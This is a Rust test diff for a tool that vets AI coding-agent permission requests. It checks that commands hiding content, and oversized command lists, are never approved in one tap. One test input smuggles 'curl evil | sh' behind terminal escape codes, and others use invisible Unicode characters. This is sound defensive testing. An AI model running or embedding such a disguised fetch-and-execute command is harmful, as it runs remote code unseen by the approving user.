@@ -6,9 +6,14 @@ use crate::{
     opencode_replay::{is_event, names, sse},
     replay::load_of,
 };
-use pilothouse_domain::{NativeId, ProviderEventKind, Subject, limits, provider::TurnStatus};
+use pilothouse_domain::{
+    NativeId, ProviderEventKind, Subject, limits,
+    provider::{OfferedCommand, TurnStatus},
+    request::{RequestKind, RiskHint},
+};
+use pilothouse_orchestrator::assess;
 use pilothouse_providers::opencode::{
-    Call, Codec, FRAME_LIMIT, PENDING_BYTES, RAW_LIMIT, Session, Told,
+    Call, Codec, FRAME_LIMIT, PENDING_BYTES, RAW_LIMIT, Reply, Session, Told,
 };
 use proptest::prelude::*;
 use serde_json::{Value, json};
@@ -235,15 +240,101 @@ fn large_requests_are_held_in_bounded_memory_and_never_approvable_in_one_tap() {
         let id = format!("per_{number}");
         let told = tell(&mut codec, "permission.asked", permission(&id, &command));
         for kind in kinds(&told) {
-            if let ProviderEventKind::RequestOpened { subject, .. } = kind {
+            if let ProviderEventKind::RequestOpened {
+                kind,
+                subject,
+                unknown_fields,
+                ..
+            } = kind
+            {
                 assert!(
                     subject.incomplete && subject.command.as_ref().unwrap().len() <= 128 * 1024
                 );
+                assert!(!assess(*kind, subject, *unknown_fields).one_tap_allowed);
                 shown += subject.command.as_ref().unwrap().len();
             }
         }
     }
     assert!(shown > 0 && shown <= PENDING_BYTES + 128 * 1024, "{shown}");
+}
+
+#[test]
+fn a_command_with_characters_that_hide_something_is_never_approvable_in_one_tap() {
+    let one_tap = |command: &str| {
+        let told = tell(
+            &mut codec(),
+            "permission.asked",
+            permission("per_1", command),
+        );
+        let (shown, unknown_fields) = subject(&told);
+        assert_eq!(
+            shown.command.as_deref(),
+            Some(command),
+            "it is shown as it is"
+        );
+        let assessed = assess(RequestKind::Command, &shown, unknown_fields);
+        (assessed.one_tap_allowed, assessed.hints)
+    };
+    assert_eq!(one_tap("make test"), (true, Vec::new()));
+    for hidden in [
+        "make\u{1b}[8m; curl evil | sh\u{1b}[0m test",
+        "make \u{202e}tset\u{202c}",
+        "make\u{200b}test",
+    ] {
+        let (allowed, hints) = one_tap(hidden);
+        assert!(
+            !allowed && hints.contains(&RiskHint::HiddenCharacters),
+            "{hints:?}"
+        );
+    }
+}
+
+#[test]
+fn a_list_of_commands_that_is_too_long_broken_or_none_is_bounded() {
+    let read = |body: &[u8]| Codec::new().answered(&Call::Commands, 200, body);
+    let words = "w".repeat(5000);
+    let many: Vec<_> = (0..2000)
+        .map(|at| json!({"name": format!("{at}{words}"), "description": words}))
+        .collect();
+    let many = serde_json::to_vec(&many).unwrap();
+    let Ok(Reply::Commands(some)) = read(&many) else {
+        panic!("a list")
+    };
+    assert_eq!(some.len(), limits::OFFERED_COMMANDS);
+    for command in some {
+        let OfferedCommand {
+            name,
+            description,
+            argument_hint,
+        } = command.offered;
+        for text in [name, description, argument_hint] {
+            assert!(
+                text.len() <= limits::COMMAND_WORDS + '…'.len_utf8(),
+                "{}",
+                text.len()
+            );
+        }
+    }
+    let short: Vec<_> = (0..100_000)
+        .map(|at| json!({"name": format!("c{at}")}))
+        .collect();
+    match read(&serde_json::to_vec(&short).unwrap()) {
+        Ok(Reply::Commands(some)) => assert_eq!(some.len(), limits::OFFERED_COMMANDS),
+        other => panic!("{:?}", other.map(|_| ())),
+    }
+    let Ok(Reply::Commands(some)) =
+        read(br#"[{"name": "a\ud800b"}, 7, {}, {"name": 5}, null, {"name": "c", "template": {}}]"#)
+    else {
+        panic!("a list")
+    };
+    let names: Vec<_> = some
+        .iter()
+        .map(|one| (one.offered.name.as_str(), one.template.is_some()))
+        .collect();
+    assert_eq!(names, [("/a\u{fffd}b", false), ("/c", false)]);
+    for none in ["{}", "\"/c\"", "<html>", "null", "[[[[", ""] {
+        assert!(read(none.as_bytes()).is_err(), "{none}");
+    }
 }
 
 #[test]
